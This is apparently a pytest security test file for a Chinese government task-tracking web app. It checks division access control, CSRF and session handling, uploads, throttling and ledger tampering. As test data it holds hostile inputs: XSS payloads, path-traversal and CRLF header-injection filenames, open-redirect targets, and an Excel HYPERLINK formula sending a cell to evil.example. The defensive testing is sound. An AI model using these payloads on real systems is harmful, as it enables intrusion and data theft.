"""Attacks on the web front, each a test: a division clerk reaching for another division's tasks, evidence, reviews
and downloads; the director trying to write; uploads in disguise; CSRF and session replay; throttle dodges; the
ledger file's owner with plain sqlite3; hostile text in every field. Each test says what it tried and what held."""

from __future__ import annotations

import datetime as dt
import re
import sqlite3
import warnings
from collections.abc import Iterator
from typing import Any

import pytest

pytest.importorskip("starlette")
pytest.importorskip("itsdangerous")

import fazhi_tasks as ft

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.applications import Starlette
    from starlette.testclient import TestClient

from fazhi_tasks.web import create_app
from tests.test_web import PASSWORD, TODAY, _client, csrf, login, sheet, upload

pytestmark = pytest.mark.usefixtures("quick_hashes")



@pytest.fixture
def ledger(sample: ft.Plan, sample_history: list[ft.Update]) -> Iterator[ft.Ledger]:
    with ft.Ledger(":memory:", plan=sample) as ledger:
        ledger.record_many([u for u in sample_history if u.on <= TODAY])
        ledger.add_account("zf", "division", division="政策法规处", password=PASSWORD)
        ledger.add_account("zfjd", "division", division="执法监督处", password=PASSWORD)
        ledger.add_account("fzb", "office", password=PASSWORD)
        ledger.add_account("jz", "director", password=PASSWORD)
        yield ledger


@pytest.fixture
def app(sample: ft.Plan, ledger: ft.Ledger) -> Starlette:
    return create_app(plan=sample, ledger=ledger, secret_key="test-secret", today=TODAY, max_upload=200_000)


@pytest.fixture
def client(app: Starlette) -> TestClient:
    return _client(app)


def _theirs(plan: ft.Plan, mine: str = "政策法规处") -> str:
    """A task the division neither leads nor supports."""
    return next(t.id for t in plan if t.division != mine and mine not in (*t.co_leads, *t.supporting))


def _mine(plan: ft.Plan, n: int = 0, division: str = "政策法规处") -> str:
    return [t.id for t in plan if t.division == division][n]


def _writes(ledger: ft.Ledger) -> tuple[int, int, int]:
    return len(ledger), len(ledger.reviews()), len(ledger.audit())


def _done_with_evidence(client: TestClient, plan: ft.Plan, division: str = "执法监督处",
                        account: str = "zfjd") -> tuple[str, str]:
    """A task of ``division`` reported done with one PDF attached: (task, its evidence URL)."""
    login(client, account)
    task = next(t.id for t in plan if t.division == division
                and "政策法规处" not in (t.division, *t.co_leads, *t.supporting))
    assert 200 == upload(client, sheet([(task, "已完成", "100", "2021-06-24")])).status_code
    answer = client.post(f"/tasks/{task}/evidence", data={"csrf": csrf(client)},
                         files={"file": ("验收.pdf", b"%PDF-1.4 secret", "application/pdf")})
    found = re.search(rf'href="(/tasks/{task}/evidence/[0-9a-f]+)"', answer.text)
    assert found is not None
    return task, found.group(1)


class TestDivisionReachingOut:
    def test_other_divisions_task_page(self, client: TestClient, sample: ft.Plan) -> None:
        """GET another division's task page: 403, and its title is not shown."""
        login(client, "zf")
        task = _theirs(sample)
        answer = client.get(f"/tasks/{task}")
        assert 403 == answer.status_code
        assert sample[task].title not in answer.text

    def test_other_divisions_evidence(self, client: TestClient, sample: ft.Plan) -> None:
        """A division fetches another's evidence: by its URL (403), by its hash under its own task (404)."""
        task, url = _done_with_evidence(client, sample)
        login(client, "zf")
        assert 403 == client.get(url).status_code
        sha = url.rsplit("/", 1)[1]
        assert 404 == client.get(f"/tasks/{_mine(sample)}/evidence/{sha}").status_code
        assert b"secret" not in client.get(f"/tasks/{_mine(sample)}/evidence/{sha}").content
        for bad in ("../" + sha, "%2e%2e%2f" + sha, sha.upper(), sha[:-1]):
            assert client.get(f"/tasks/{task}/evidence/{bad}").status_code in (403, 404), bad

    def test_progress_form_on_another_task(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """POST the per-task form for another division's task (with a valid token): 403, nothing written."""
        login(client, "zf")
        before = _writes(ledger)
        answer = client.post(f"/tasks/{_theirs(sample)}/progress", data={
            "csrf": csrf(client), "status": "已完成", "percent": "100", "on": "2021-06-24"})
        assert 403 == answer.status_code
        assert before == _writes(ledger)

    def test_sheet_with_one_foreign_row(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """A sheet of its own rows plus one of another division's task (page and API): 403, no row written."""
        login(client, "zf")
        before = _writes(ledger)
        data = sheet([(_mine(sample), "推进中", "40", "2021-06-24"), (_theirs(sample), "已完成", "100", "2021-06-24")])
        assert 403 == upload(client, data).status_code
        answer = client.post("/progress", data={"csrf": csrf(client, "/progress")},
                             files={"file": ("进展.csv", data, "text/csv")})
        assert 403 == answer.status_code
        assert before == _writes(ledger)

    def test_supported_task_is_read_not_written(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """A task the division only supports: readable, but no report and no evidence."""
        supported = next((t.id for t in sample if "政策法规处" in t.supporting and t.division != "政策法规处"), None)
        if supported is None:
            pytest.skip("the sample has no task 政策法规处 supports")
        login(client, "zf")
        before = _writes(ledger)
        assert 200 == client.get(f"/tasks/{supported}").status_code
        assert 403 == upload(client, sheet([(supported, "推进中", "10", "2021-06-24")])).status_code
        assert 403 == client.post(f"/tasks/{supported}/evidence", data={"csrf": csrf(client)},
                                  files={"file": ("a.pdf", b"%PDF-1.4", "application/pdf")}).status_code
        assert before == _writes(ledger)

    def test_office_routes(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """A division POSTs to the review routes (page, bulk, API) and reads the 通报 downloads: all 403."""
        task, _ = _done_with_evidence(client, sample)
        login(client, "zf")
        before = _writes(ledger)
        token = csrf(client)
        assert 403 == client.post(f"/review/{task}", data={"csrf": token, "decision": "pass"}).status_code
        assert 403 == client.post("/review/all-pending", data={"csrf": token, "until": "2021-06-25"}).status_code
        assert 403 == client.post(f"/api/review/{task}", json={"decision": "pass"}).status_code
        assert 403 == client.get("/review").status_code
        for path in ("/download/weekly.docx", "/download/notices.docx", "/download/weekly.xlsx", "/api/weekly.docx"):
            assert 403 == client.get(path).status_code, path
        assert before == _writes(ledger)

    def test_lists_never_show_other_divisions(self, client: TestClient, sample: ft.Plan) -> None:
        """The overdue JSON, the overdue and rectification pages hold no task the division does not read."""
        login(client, "zf")
        readable = {t.id for t in sample if "政策法规处" in (t.division, *t.co_leads, *t.supporting)}
        found = client.get("/api/overdue", params={"as_of": "2021-12-31"}).text
        assert set(re.findall(r'"(T\d{3})"', found)) <= readable
        for path in ("/overdue?as_of=2021-12-31", "/rectify?as_of=2021-12-31", "/"):
            ids = set(re.findall(r">(T\d{3})<", client.get(path).text))
            assert ids <= readable, (path, ids - readable)


class TestDirector:
    def test_writes_nothing(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """The director: every write route, page and API, answers 403 and writes nothing."""
        task, _ = _done_with_evidence(client, sample)
        login(client, "jz")
        token = csrf(client)
        before = _writes(ledger)
        assert 403 == client.post(f"/tasks/{task}/progress", data={
            "csrf": token, "status": "推进中", "percent": "10", "on": "2021-06-24"}).status_code
        assert 403 == client.post(f"/tasks/{task}/evidence", data={"csrf": token},
                                  files={"file": ("a.pdf", b"%PDF-1.4", "application/pdf")}).status_code
        assert 403 == upload(client, sheet([(task, "推进中", "10", "2021-06-24")])).status_code
        assert 403 == client.post(f"/review/{task}", data={"csrf": token, "decision": "pass"}).status_code
        assert 403 == client.post("/review/all-pending", data={"csrf": token, "until": "2021-06-25"}).status_code
        assert 403 == client.post(f"/api/review/{task}", json={"decision": "pass"}).status_code
        assert 403 == client.get("/progress").status_code
        assert 403 == client.get("/progress/template.xlsx").status_code
        assert before == _writes(ledger)
        assert 200 == client.get("/download/weekly.docx").status_code


class TestUploads:
    @pytest.mark.parametrize(("name", "data"), [
        ("report.pdf", b"<html><script>alert(1)</script></html>"),
        ("图.pdf", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("setup.pdf", b"MZ\x90\x00\x03" + b"\x00" * 50),
        ("a.html", b"<html></html>"), ("a.svg", b"<svg/>"), ("a.exe", b"MZ"), ("a.pdf.html", b"%PDF-1.4"),
        ("a.PDF ", b"<html>"),
    ])
    def test_disguised_evidence_refused(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger, name: str,
                                        data: bytes) -> None:
        """HTML/SVG/EXE named .pdf, or any other suffix: 415, nothing stored."""
        task, _ = _done_with_evidence(client, sample)
        before = len(ledger.evidence(task))
        answer = client.post(f"/tasks/{task}/evidence", data={"csrf": csrf(client)},
                             files={"file": (name, data, "application/pdf")})
        assert 415 == answer.status_code, answer.text
        assert before == len(ledger.evidence(task))

    def test_txt_with_html_is_served_inert(self, client: TestClient, sample: ft.Plan) -> None:
        """A .txt holding HTML is stored, and served as text/plain attachment, nosniff, sandboxed; whatever type
        the uploader claimed."""
        task, _ = _done_with_evidence(client, sample)
        answer = client.post(f"/tasks/{task}/evidence", data={"csrf": csrf(client)},
                             files={"file": ("说明.txt", b"<script>alert(1)</script>", "text/html")})
        link = re.findall(rf'href="(/tasks/{task}/evidence/[0-9a-f]+)"', answer.text)[-1]
        got = client.get(link)
        assert got.headers["content-type"].startswith("text/plain")
        assert got.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in got.headers["content-security-policy"]
        assert "nosniff" == got.headers["x-content-type-options"]

    @pytest.mark.parametrize("name", ["../../../etc/passwd.pdf", "..\\..\\boot.pdf", "/abs/x.pdf",
                                      'a"\r\nSet-Cookie: x=1.pdf', "a\x00b.pdf", "名" * 400 + ".pdf"])
    def test_path_tricks_in_filenames(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger,
                                      name: str) -> None:
        """Folders are dropped, control characters removed, the name cut to 200; the download header stays one
        header (no CR/LF, quotes escaped)."""
        task, _ = _done_with_evidence(client, sample)
        answer = client.post(f"/tasks/{task}/evidence", data={"csrf": csrf(client)},
                             files={"file": (name, b"%PDF-1.4 x", "application/pdf")})
        assert 200 == answer.status_code
        stored = ledger.evidence(task)[-1]
        assert "/" not in stored.filename and "\\" not in stored.filename and len(stored.filename) <= 200
        assert not re.search(r"[\x00-\x1f]", stored.filename)
        link = re.findall(rf'href="(/tasks/{task}/evidence/[0-9a-f]+)"', answer.text)[-1]
        got = client.get(link)
        assert "set-cookie" not in got.headers
        assert "\n" not in got.headers["content-disposition"] and "\r" not in got.headers["content-disposition"]

    def test_chunked_body_without_length(self, client: TestClient, ledger: ft.Ledger) -> None:
        """A body streamed in chunks with no Content-Length: 413 once past the limit, nothing parsed."""
        login(client, "zf")

        def chunks() -> Iterator[bytes]:
            for _ in range(50):
                yield b"x" * 10_000

        before = _writes(ledger)
        answer = client.post("/api/progress", content=chunks(), headers={"content-type": "multipart/form-data; b=x"})
        assert 413 == answer.status_code
        assert before == _writes(ledger)

    @pytest.mark.parametrize("length", ["999999999999", "-1", "1e3", " 10", "10,10"])
    def test_odd_content_length(self, client: TestClient, length: str) -> None:
        """A Content-Length that is huge or not a plain number: 413 before anything reads the body."""
        login(client, "zf")
        answer = client.post("/api/progress", content=b"", headers={"content-length": length,
                                                                    "content-type": "multipart/form-data; b=x"})
        assert 413 == answer.status_code


class TestCsrfAndSessions:
    def test_cross_origin_api_post(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """A logged-in clerk's browser posts from another origin (API: Origin / Sec-Fetch-Site; forms: no token)."""
        login(client, "zf")
        before = _writes(ledger)
        data = sheet([(_mine(sample), "推进中", "40", "2021-06-24")])
        for headers in ({"origin": "https://evil.example"}, {"origin": "null"}, {"sec-fetch-site": "cross-site"},
                        {"sec-fetch-site": "same-site"}, {"x-csrf-token": "forged"}):
            answer = client.post("/api/progress", files={"file": ("a.csv", data, "text/csv")}, headers=headers)
            assert 403 == answer.status_code, headers
        answer = client.post(f"/tasks/{_mine(sample)}/progress",
                             data={"status": "推进中", "percent": "40", "on": "2021-06-24"})
        assert 403 == answer.status_code
        assert before == _writes(ledger)

    def test_token_of_another_session(self, app: Starlette, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """The CSRF token of one clerk's session does not work in another's."""
        first, second = login(_client(app), "zf"), login(_client(app), "zf")
        token = csrf(first)
        before = _writes(ledger)
        answer = second.post(f"/tasks/{_mine(sample)}/progress",
                             data={"csrf": token, "status": "推进中", "percent": "40", "on": "2021-06-24"})
        assert 403 == answer.status_code
        assert before == _writes(ledger)

    def test_tampered_cookie(self, client: TestClient) -> None:
        """A session cookie edited (a byte changed, or another signature) logs nobody in."""
        login(client, "zf")
        cookie = client.cookies["fazhi_session"]
        for forged in (cookie[:-2] + ("AA" if not cookie.endswith("AA") else "BB"), "e30=.x.y", cookie + "x"):
            client.cookies.clear()
            client.cookies.set("fazhi_session", forged)
            assert 401 == client.get("/api/me").status_code

    def test_cookie_signed_with_another_key(self, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """A cookie from an app with another key (say, its own test copy) is refused."""
        other = login(_client(create_app(plan=sample, ledger=ledger, secret_key="other", today=TODAY)), "fzb")
        mine = _client(create_app(plan=sample, ledger=ledger, secret_key="test-secret", today=TODAY),
                       cookies={"fazhi_session": other.cookies["fazhi_session"]})
        assert 401 == mine.get("/api/me").status_code

    @pytest.mark.parametrize("how", ["api", "form"])
    def test_replay_after_logout(self, client: TestClient, how: str) -> None:
        """A copy of the session cookie taken before logout no longer works after it (was: it did; fixed)."""
        login(client, "zf")
        kept = client.cookies["fazhi_session"]
        assert 200 == client.get("/api/me").status_code
        if how == "api":
            client.post("/api/logout")
        else:
            client.post("/logout", data={"csrf": csrf(client)})
        client.cookies.clear()
        client.cookies.set("fazhi_session", kept)
        assert 401 == client.get("/api/me").status_code
        assert 303 == client.get("/", follow_redirects=False).status_code

    def test_session_ends_after_twelve_hours(self, client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
        """A session used all day still ends 12 hours after its login (the signed cookie alone would slide)."""
        import time

        login(client, "zf")
        assert 200 == client.get("/api/me").status_code
        now = time.time()
        monkeypatch.setattr(time, "time", lambda: now + 12 * 3600 + 1)
        assert 401 == client.get("/api/me").status_code

    @pytest.mark.parametrize("next_path", ["/\t/evil.example/", "/\n/evil.example", "/\r\n/evil.example",
                                           "//evil.example", "/\\evil.example", "https://evil.example", " //evil"])
    def test_login_next_never_leaves(self, client: TestClient, next_path: str) -> None:
        """``next`` with a tab or newline between the slashes (a browser drops them: //evil) goes home (was: it
        went through; fixed)."""
        token = csrf(client, "/login")
        answer = client.post("/login", data={"username": "zf", "password": PASSWORD, "csrf": token,
                                             "next": next_path}, follow_redirects=False)
        assert "/" == answer.headers["location"]

    @pytest.mark.parametrize("variant", ["ZF", " zf", "zf ", "\tzf\n", "Zf", "ｚｆ", "zf\u200b"])
    def test_throttle_not_dodged_by_spelling(self, client: TestClient, variant: str) -> None:
        """Five failures for zf, then the same name with other case / spaces / full-width letters: the padded
        spellings count as zf (blocked), the others are other names that never log in as zf."""
        for _ in range(5):
            client.post("/api/login", json={"username": "zf", "password": "wrong password"})
        answer = client.post("/api/login", json={"username": variant, "password": PASSWORD})
        assert answer.status_code in (401, 429), variant
        if variant.strip() == "zf":
            assert 429 == answer.status_code
        assert 401 == client.get("/api/me").status_code


class TestHostileText:
    HOSTILE = '<img src=x onerror=alert(1)>"\'&\x07\x1b[31m' + "长" * 3000

    def test_note_with_html_control_and_length(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """A note with HTML, control characters and 3000+ characters: refused (400, nothing written) — control
        characters and the length are the ledger's rule; a plain HTML note is stored and shown escaped."""
        login(client, "zf")
        task = _mine(sample)
        before = _writes(ledger)
        answer = client.post(f"/tasks/{task}/progress", data={"csrf": csrf(client), "status": "推进中",
                                                               "percent": "40", "on": "2021-06-24",
                                                               "note": self.HOSTILE})
        assert 400 == answer.status_code
        assert "<img" not in answer.text
        assert before == _writes(ledger)
        client.post(f"/tasks/{task}/progress", data={"csrf": csrf(client), "status": "推进中", "percent": "40",
                                                     "on": "2021-06-24", "note": "<img src=x onerror=alert(1)>"})
        page = client.get(f"/tasks/{task}").text
        assert "<img src=x" not in page and "&lt;img src=x" in page

    def test_return_reason_and_filename(self, client: TestClient, sample: ft.Plan) -> None:
        """A 退回 reason and an evidence file name holding HTML are shown escaped to the division and the office."""
        task, _ = _done_with_evidence(client, sample)
        client.post(f"/tasks/{task}/evidence", data={"csrf": csrf(client)},
                    files={"file": ('<svg onload=alert(1)>".pdf', b"%PDF-1.4 y", "application/pdf")})
        login(client, "fzb")
        client.post(f"/api/review/{task}", json={"decision": "return", "reason": "<script>alert(2)</script>"})
        for who in ("fzb", "zfjd"):
            login(client, who)
            text = client.get(f"/tasks/{task}").text + client.get("/").text
            assert "<script>alert" not in text and "<svg onload" not in text, who
            assert "&lt;script&gt;alert(2)" in client.get(f"/tasks/{task}").text

    def test_hostile_query_values(self, client: TestClient) -> None:
        """Dates, divisions and notices from the URL are parsed or escaped, never echoed raw."""
        login(client, "fzb")
        bad = "<script>alert(1)</script>"
        for path, params in (("/", {"week_ending": bad}), ("/overdue", {"as_of": bad}),
                             ("/review", {"division": bad}), ("/review", {"done": "pass:" + bad}),
                             ("/review", {"done": "all:" + bad}), ("/tasks/" + bad, {})):
            answer = client.get(path, params=params)
            assert "<script>alert" not in answer.text, path

    def test_hostile_titles_in_a_plan(self, sample: ft.Plan) -> None:
        """Task titles and division names with HTML and control characters: escaped on every page and list."""
        import attrs

        bad = '"><img src=x onerror=alert(1)>'
        tasks = [attrs.evolve(t, title=bad + t.title) for t in sample]
        plan = ft.Plan(name=sample.name, stages=sample.stages, divisions=sample.divisions, tasks=tasks)
        with ft.Ledger(":memory:", plan=plan) as ledger:
            ledger.add_account("fzb", "office", password=PASSWORD)
            ledger.add_account("zf", "division", division="政策法规处", password=PASSWORD)
            task = _mine(plan)
            ledger.record(ft.Update(task, "已完成", dt.date(2021, 6, 24)))
            app = create_app(plan=plan, ledger=ledger, secret_key="k", today=TODAY)
            for who, paths in (("fzb", ("/", "/overdue", "/rectify", "/review", f"/tasks/{task}")),
                               ("zf", ("/", "/overdue", "/rectify", f"/tasks/{task}"))):
                client = login(_client(app), who)
                for path in paths:
                    assert "<img src=x" not in client.get(path).text, (who, path)


class TestBulkPass:
    def _three_done(self, client: TestClient, sample: ft.Plan) -> list[str]:
        login(client, "zf")
        ids = [t.id for t in sample if t.division == "政策法规处"][5:8]
        assert 200 == upload(client, sheet([(ids[0], "已完成", "100", "2021-06-21"),
                                            (ids[1], "已完成", "100", "2021-06-22"),
                                            (ids[2], "已完成", "100", "2021-06-24")])).status_code
        return ids

    def test_passes_up_to_the_date(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """全部销号（截至 6月22日）: the two reported by then are passed, one review each by the office account,
        dated today; the third stays 待审核; run again, nothing more."""
        ids = self._three_done(client, sample)
        login(client, "fzb")
        page = client.get("/review").text
        assert "全部销号（截至某日）" in page and 'name="until"' in page
        answer = client.post("/review/all-pending", data={"csrf": csrf(client, "/review"), "until": "2021-06-22"})
        assert 200 == answer.status_code
        passed = {r.task_id: r for r in ledger.reviews()}
        assert f"已销号 {len(passed)} 项" in answer.text
        assert {ids[0], ids[1]} <= set(passed) and ids[2] not in passed
        assert all(r.by == "fzb" and r.on == TODAY and r.decision.value == "pass" for r in passed.values())
        assert ids[2] in ledger.closed_as_of(TODAY).pending
        count = len(ledger.reviews())
        client.post("/review/all-pending", data={"csrf": csrf(client, "/review"), "until": "2021-06-22"})
        assert count == len(ledger.reviews())

    def test_by_division(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """With the list narrowed to one division, only its tasks are passed."""
        self._three_done(client, sample)
        login(client, "fzb")
        client.post("/review/all-pending", data={"csrf": csrf(client, "/review"), "until": "2021-06-25",
                                                 "division": "人事处"})
        passed = [sample[r.task_id] for r in ledger.reviews()]
        assert passed and all("人事处" in (t.division, *t.co_leads) for t in passed)

    @pytest.mark.parametrize("until", ["", "   ", "2021-06-26", "昨天", "<b>"])
    def test_needs_a_date_not_after_today(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger,
                                          until: str) -> None:
        """No date (the confirmation), a bad one, or one after today: 400, nothing passed."""
        self._three_done(client, sample)
        login(client, "fzb")
        before = len(ledger.reviews())
        answer = client.post("/review/all-pending", data={"csrf": csrf(client, "/review"), "until": until})
        assert 400 == answer.status_code
        assert "<b>" not in answer.text
        assert before == len(ledger.reviews())

    def test_needs_the_token(self, client: TestClient, sample: ft.Plan, ledger: ft.Ledger) -> None:
        """Without the CSRF token: 403, nothing passed."""
        self._three_done(client, sample)
        login(client, "fzb")
        assert 403 == client.post("/review/all-pending", data={"until": "2021-06-25"}).status_code
        assert [] == ledger.reviews()


class TestLedgerFileOwner:
    """The owner of the SQLite file with plain sqlite3: what the triggers refuse, what is left once they are
    dropped, and what can be told afterwards."""

    @pytest.fixture
    def path(self, tmp_path: Any, sample: ft.Plan) -> Any:
        path = tmp_path / "progress.db"
        task = _mine(sample)
        with ft.Ledger(path, plan=sample) as ledger:
            ledger.add_account("zf", "division", division="政策法规处", password=PASSWORD)
            ledger.add_account("fzb", "office", password=PASSWORD)
            ledger.record(ft.Update(task, "已完成", dt.date(2021, 6, 24), by="zf"))
            ledger.review(ft.Review(task, "return", dt.date(2021, 6, 25), reason="缺少佐证", by="fzb"))
            ledger.add_evidence(task, b"%PDF-1.4 z", filename="a.pdf", by="zf")
        return path

    @pytest.mark.parametrize("sql", [
        "UPDATE reviews SET decision = 'pass', reason = ''", "DELETE FROM reviews",
        "UPDATE evidence SET task_id = 'T002'", "DELETE FROM evidence",
        "UPDATE accounts SET role = 'office', division = NULL WHERE name = 'zf'",
        "UPDATE accounts SET division = '执法监督处' WHERE name = 'zf'", "DELETE FROM accounts",
        "UPDATE updates SET status = '推进中'", "DELETE FROM updates",
    ])
    def test_triggers_refuse(self, path: Any, sql: str) -> None:
        """Rewrites and deletes of reviews, evidence, accounts (role/division) and updates are refused."""
        with sqlite3.connect(path) as db, pytest.raises(sqlite3.DatabaseError):
            db.execute(sql)

    def test_after_dropping_the_triggers(self, path: Any, sample: ft.Plan) -> None:
        """Triggers dropped: an update rewritten is caught by ``verify`` (the hash chain); a review rewritten or
        an account's role changed is NOT detectable from the file (reviews and accounts carry no chain — known
        limit, see the report); the trigger's absence is visible in sqlite_master."""
        with sqlite3.connect(path) as db:
            for name in ("reviews_no_change", "accounts_fixed", "updates_no_change"):
                db.execute(f"DROP TRIGGER {name}")
            db.execute("UPDATE reviews SET decision = 'pass', reason = ''")
            db.execute("UPDATE accounts SET role = 'office', division = NULL WHERE name = 'zf'")
            db.execute("UPDATE updates SET percent = 100")
            triggers = {r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")}
        assert "reviews_no_change" not in triggers
        with ft.Ledger(path, plan=sample) as ledger:
            assert not ledger.verify().ok
            assert "pass" == ledger.reviews()[0].decision.value  # undetected
            assert "office" == str(getattr(ledger.account("zf").role, "value", ""))  # type: ignore[union-attr]

    def test_evidence_file_swapped(self, path: Any, sample: ft.Plan) -> None:
        """The stored file replaced on disk: served only if its bytes still hash to its name (else refused)."""
        with ft.Ledger(path, plan=sample) as ledger:
            item = ledger.evidence(_mine(sample))[0]
            stored = path.parent / "progress.db.files" / item.sha256[:2] / item.sha256
            stored.chmod(0o644)
            stored.write_bytes(b"<html>swapped</html>")
            with pytest.raises(ft.LedgerError):
                ledger.evidence_bytes(item.sha256)


class TestPercentCells:
    """The template's 完成百分比 column is percent-formatted: Excel and LibreOffice store 1.0 when a clerk types
    100 (automatic percent entry); a script writing 100 into it gives 100 stored, shown as 10000%."""

    def _template_with(self, client: TestClient, value: float) -> tuple[bytes, str]:
        import io

        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(client.get("/progress/template.xlsx").content))
        sheet_ = book.worksheets[0]
        header_row = next(r for r in sheet_.iter_rows() if any(c.value == "完成百分比" for c in r))
        columns = {c.value: int(c.column or 0) for c in header_row}
        row = int(header_row[0].row or 0) + 1
        task = str(sheet_.cell(row, columns["任务编号"]).value)
        cell = sheet_.cell(row, columns["完成百分比"])
        assert "%" in cell.number_format
        cell.value = value
        sheet_.cell(row, columns["状态"]).value = "推进中"
        sheet_.cell(row, columns["报送日期"]).value = dt.date(2021, 6, 24)
        buffer = io.BytesIO()
        book.save(buffer)
        return buffer.getvalue(), task

    def test_typed_in_excel(self, client: TestClient, ledger: ft.Ledger) -> None:
        """What Excel stores for a typed 50 (0.5) is read as 50%."""
        login(client, "zf")
        data, task = self._template_with(client, 0.5)
        assert 200 == upload(client, data, "进展.xlsx").status_code
        assert 50 == ledger.history(task)[-1].percent

    def test_written_by_a_script(self, client: TestClient, ledger: ft.Ledger) -> None:
        """100 stored in the percent cell: refused, saying what the cell shows and what to type (not guessed)."""
        login(client, "zf")
        before = _writes(ledger)
        data, _ = self._template_with(client, 100)
        answer = upload(client, data, "进展.xlsx")
        assert 400 == answer.status_code
        assert "显示为 10000%" in answer.text and "请填写 100%（或 100）" in answer.text
        assert before == _writes(ledger)


class TestDownloadsCarryNoFormulas:
    def test_note_starting_with_equals(self, client: TestClient, sample: ft.Plan) -> None:
        """A clerk's note ``=HYPERLINK(...)`` reaches the office's Excel report and the template as text, never
        as a formula (no ``<f>`` element in any sheet)."""
        import io
        import zipfile

        login(client, "zf")
        bad = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
        assert 303 == client.post(f"/tasks/{_mine(sample)}/progress", follow_redirects=False, data={
            "csrf": csrf(client), "status": "推进中", "percent": "40", "on": "2021-06-24", "note": bad}).status_code
        template = client.get("/progress/template.xlsx").content
        login(client, "fzb")
        for blob in (client.get("/download/weekly.xlsx", params={"week_ending": "2021-06-25"}).content, template):
            with zipfile.ZipFile(io.BytesIO(blob)) as book:
                sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
            assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets)


class TestThrottleTable:
    def test_a_spray_of_names_does_not_grow_without_end(self) -> None:
        """Failures for ever-new made-up names: once the table is full, the expired ones are dropped."""
        from fazhi_tasks.web.security import LoginThrottle

        now = [0.0]
        throttle = LoginThrottle(attempts=5, window=60, clock=lambda: now[0])
        for i in range(LoginThrottle.MAX_KEYS):
            throttle.failed(f"user{i}", "1.2.3.4")
        now[0] = 120.0
        throttle.failed("late", "1.2.3.4")
        assert 1 == len(throttle._failures)
        assert not throttle.blocked("user1", "1.2.3.4")
